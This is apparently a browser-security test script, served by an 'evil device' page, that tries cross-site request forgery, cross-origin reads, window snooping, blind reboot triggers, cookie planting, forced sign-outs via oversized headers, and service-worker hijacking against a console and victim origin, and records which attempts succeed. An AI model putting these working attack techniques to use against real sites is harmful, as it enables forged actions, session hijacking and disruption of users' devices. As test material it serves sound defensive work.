// What the evil device serves as its page's script: each attack tries everything it knows and tells what came of it. Plain JavaScript
// with no policy around it, as whoever owns a device can serve it. `at`: the origins of console, evil and victim.
'use strict';
const wait = (ms) => new Promise((done) => setTimeout(done, ms));
const add = (name, fields = {}, attributes = {}) => {
  const element = Object.assign(document.createElement(name), fields);
  for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value);
  document.body.append(element);
  return element;
};
const send = (fields) => add('form', fields).submit();
const file = (type, body) => `/file?type=${encodeURIComponent(type)}&body=${encodeURIComponent(body)}`;
const collect = async (tries) => {
  const told = {};
  for (const [name, run] of Object.entries(tries)) told[name] = await run().then((answer) => (answer instanceof Response ? `${answer.type} ${answer.status}` : String(answer)), () => 'refused');
  return told;
};
const loaded = (name, fields) => new Promise((done, failed) => add(name, { ...fields, onload: () => done('loaded'), onerror: failed }));
const socket = (url) => new Promise((done, failed) => Object.assign(new WebSocket(url.replace('https:', 'wss:')), { onopen: () => done('opened'), onerror: failed }));
const events = (url) => new Promise((done, failed) => Object.assign(new EventSource(url, { withCredentials: true }), { onopen: () => done('opened'), onerror: failed }));

globalThis.attacks = {
  async writes(at) {
    const api = `${at.console}/api/v1`;
    const stolen = '{"name":"stolen"}';
    const json = { 'Content-Type': 'application/json' };
    const plain = { 'Content-Type': 'text/plain' };
    const include = { credentials: 'include' };
    const told = await collect({
      'no-cors without a body': () => fetch(`${api}/devices/v/lock`, { ...include, method: 'POST', mode: 'no-cors' }),
      'no-cors text/plain': () => fetch(`${api}/tokens`, { ...include, method: 'POST', mode: 'no-cors', headers: plain, body: stolen }),
      'no-cors keepalive': () => fetch(`${api}/devices/v/lock`, { ...include, method: 'POST', mode: 'no-cors', keepalive: true }),
      'cors text/plain': () => fetch(`${api}/tokens`, { ...include, method: 'POST', headers: plain, body: stolen }),
      'cors JSON': () => fetch(`${api}/tokens`, { ...include, method: 'POST', headers: json, body: stolen }),
      'cors PUT': () => fetch(`${api}/me/password`, { ...include, method: 'PUT', headers: json, body: '{}' }),
      'cors DELETE': () => fetch(`${api}/sign-in`, { ...include, method: 'DELETE' }),
      'cors PATCH': () => fetch(`${api}/devices/v`, { ...include, method: 'PATCH', headers: json, body: '{"name":"hacked"}' }),
      'signed in as the attacker': () => fetch(`${api}/sign-in`, { ...include, method: 'POST', mode: 'no-cors', headers: plain, body: '{"login":"mallory","password":"mallory mallory"}' }),
      XMLHttpRequest: () =>
        new Promise((done, failed) => {
          const request = new XMLHttpRequest();
          request.open('POST', `${api}/devices/v/lock`);
          request.withCredentials = true;
          request.addEventListener('load', () => done(request.status));
          request.addEventListener('error', failed);
          request.send();
        }),
    });
    navigator.sendBeacon(`${api}/devices/v/lock`);
    for (const type of ['text/plain', 'application/json']) navigator.sendBeacon(`${api}/tokens`, new Blob([stolen], { type }));
    add('iframe', { name: 'hidden' });
    for (const target of ['hidden', '_blank']) for (const enctype of ['application/x-www-form-urlencoded', 'text/plain', 'multipart/form-data']) send({ method: 'post', action: `${api}/devices/v/lock`, target, enctype });
    return told;
  },

  async reads(at) {
    const tries = {};
    for (const [where, url] of [['the API', `${at.console}/api/v1/me`], ['the console', `${at.console}/`], ['the victim', `${at.victim}/`]]) {
      tries[`${where}, cors`] = () => fetch(url, { credentials: 'include' }).then((answer) => answer.text());
      tries[`${where}, no-cors`] = () => fetch(url, { credentials: 'include', mode: 'no-cors' }).then((answer) => answer.text());
      tries[`${where}, script`] = () => loaded('script', { src: url });
      tries[`${where}, image`] = () => loaded('img', { src: url });
      tries[`${where}, frame`] = () => loaded('iframe', { src: url }).then(() => [...document.querySelectorAll('iframe')].at(-1).contentDocument.body.textContent);
    }
    return collect({
      ...tries,
      'a script of the victim': () => loaded('script', { src: `${at.victim}/secret.js` }).then(() => globalThis.stolen),
      'WebSocket to /stream': () => socket(`${at.console}/stream`),
      'WebSocket to /link': () => socket(`${at.console}/link`),
      'WebSocket to the events': () => socket(`${at.console}/api/v1/events`),
      'WebSocket to the victim': () => socket(`${at.victim}/echo`),
      'events of the console': () => events(`${at.console}/api/v1/events`),
      'events of the victim': () => events(`${at.victim}/events`),
      'events of the console, unread': () => fetch(`${at.console}/api/v1/events`, { credentials: 'include', mode: 'no-cors' }).then((answer) => answer.text()),
    });
  },

  async windows(at) {
    const messages = [];
    addEventListener('message', (event) => messages.push(event.data));
    const look = (other) => {
      if (!other || other.closed) return 'cut off';
      try {
        return other.document.body.textContent;
      } catch {
        return 'refused';
      }
    };
    const [own, victim] = [window.open(`${at.console}/devices`), window.open(`${at.victim}/`)];
    await wait(2_000);
    for (const other of [own, victim]) other?.postMessage({ please: 'answer' }, '*');
    await wait(200);
    return { messages, console: look(own), victim: look(victim) };
  },

  async triggers(at) {
    const target = (how) => `${at.victim}/reboot?by=${encodeURIComponent(how)}`;
    const via = (how, status = 302) => `${at.evil}/to?status=${status}&url=${encodeURIComponent(target(how))}`;
    for (const name of ['img', 'script', 'iframe', 'embed', 'video', 'audio', 'frame']) {
      add(name, { src: target(name) });
      add(name, { src: via(`${name}, redirected`) });
    }
    add('img', { src: `/to?url=${encodeURIComponent(via('img, redirected twice', 307))}` });
    add('script', { src: target('module'), type: 'module' });
    add('object', { data: target('object') });
    add('input', { type: 'image', src: target('input') });
    add('iframe', { srcdoc: `<meta http-equiv="refresh" content="0;url=${target('refresh')}">` });
    add('iframe', { src: file('text/html', `<script>location = ${JSON.stringify(target('location in a frame'))}</script>`) });
    add('iframe', { src: target('sandboxed') }, { sandbox: 'allow-scripts' });
    add('iframe', { srcdoc: `<form method=post action="${target('post in a frame')}"></form><script>document.forms[0].submit()</script>` });
    for (const rel of ['stylesheet', 'prefetch', 'modulepreload', 'icon', 'manifest', 'prerender']) add('link', { rel, href: target(rel) });
    for (const as of ['image', 'script', 'style', 'font', 'fetch']) add('link', { rel: 'preload', as, href: target(`preload ${as}`) }, as === 'fetch' ? { crossorigin: 'use-credentials' } : {});
    add('link', { rel: 'prefetch', href: via('prefetch, redirected') });
    add('style', { textContent: `@import url("${target('import')}"); @font-face { font-family: f; src: url("${target('font')}") } body { font-family: f; background: url("${target('background')}") }` });
    const immediately = (url) => [{ source: 'list', urls: [url], eagerness: 'immediate' }];
    add('script', { type: 'speculationrules', textContent: JSON.stringify({ prefetch: [...immediately(target('speculation, prefetch')), ...immediately(via('speculation, redirected'))], prerender: immediately(target('speculation, prerender')) }) });
    for (const mode of ['cors', 'no-cors']) {
      for (const method of ['GET', 'POST', 'HEAD']) {
        fetch(target(`fetch ${mode} ${method}`), { mode, method, credentials: 'include' }).catch(() => {});
        fetch(via(`fetch ${mode} ${method}, redirected`, 307), { mode, method, credentials: 'include' }).catch(() => {});
      }
    }
    fetch(target('PUT'), { method: 'PUT', credentials: 'include' }).catch(() => {});
    navigator.sendBeacon(target('beacon'));
    add('a', { href: '#', ping: target('ping') }).click();
    events(target('events')).catch(() => {});
    socket(target('socket')).catch(() => {});
    const inWorker = `try { importScripts(${JSON.stringify(target('importScripts'))}) } catch {} fetch(${JSON.stringify(target('worker'))}, { credentials: 'include', mode: 'no-cors' }).catch(() => {})`;
    globalThis.worker = new Worker(file('text/javascript', inWorker));
    send({ method: 'post', action: target('form'), target: '_blank' });
    send({ method: 'post', action: target('form, text/plain'), target: '_blank', enctype: 'text/plain' });
    send({ method: 'post', action: via('form, redirected', 307), target: '_blank' });
    add('iframe', { name: 'inside' });
    send({ method: 'get', action: target('get form in a frame'), target: 'inside' });
    await wait(2_000);
  },

  /** As text and as headers; `lines` in the syntax of Set-Cookie. Answers what a script here sees afterwards. */
  async plants(lines) {
    for (const line of lines) document.cookie = line;
    // Too long an address ends an HTTP/2 connection (docs/wire/http2.md); the lines above have done it then.
    await fetch(`/headers?cookies=${encodeURIComponent(lines.join('\n'))}`).catch(() => {});
    return document.cookie;
  },

  async signOuts({ places, hosts }) {
    for (const url of places) {
      add('img', { src: url });
      add('iframe', { src: url });
      await fetch(url, { mode: 'no-cors', credentials: 'include', method: 'POST' }).catch(() => {});
      await fetch(url, { credentials: 'include', method: 'DELETE' }).catch(() => {});
      send({ method: 'post', action: url, target: '_blank' });
    }
    // A head that is too large is answered with Clear-Site-Data where cookies made it so, and nowhere else. The shorter ones leave room
    // for Host within the first 16 KiB, and are too large with what follows it.
    for (const url of hosts) for (const chars of [15_400, 15_700, 16_000, 70_000]) await fetch(`${url}/?${'x'.repeat(chars)}`, { mode: 'no-cors', credentials: 'include' }).catch(() => {});
  },

  async workers(at) {
    const script = `self.addEventListener('activate', (event) => event.waitUntil(clients.claim()));
      self.addEventListener('fetch', (event) => event.request.url.includes('/spoofed') && event.respondWith(new Response('spoofed')));
      self.addEventListener('message', (event) => event.waitUntil(Promise.allSettled(event.data.map((url) => fetch(url, { credentials: 'include', mode: 'no-cors', method: 'POST' })))
        .then((all) => event.source.postMessage(all.length))));`;
    await navigator.serviceWorker.register(file('text/javascript', script), { scope: '/' });
    const { active } = await navigator.serviceWorker.ready;
    const done = new Promise((said) => navigator.serviceWorker.addEventListener('message', (event) => said(event.data)));
    active.postMessage([`${at.victim}/reboot`, `${at.console}/api/v1/devices/v/lock`]);
    await done;
    if (!navigator.serviceWorker.controller) await new Promise((claimed) => navigator.serviceWorker.addEventListener('controllerchange', claimed));
    const register = (url, scope) => navigator.serviceWorker.register(url, { scope }).then(() => 'registered', () => 'refused');
    return { own: await (await fetch('/spoofed')).text(), foreignScript: await register(`${at.victim}/sw.js`, '/other/'), foreignScope: await register(file('text/javascript', ''), `${at.victim}/`) };
  },
};
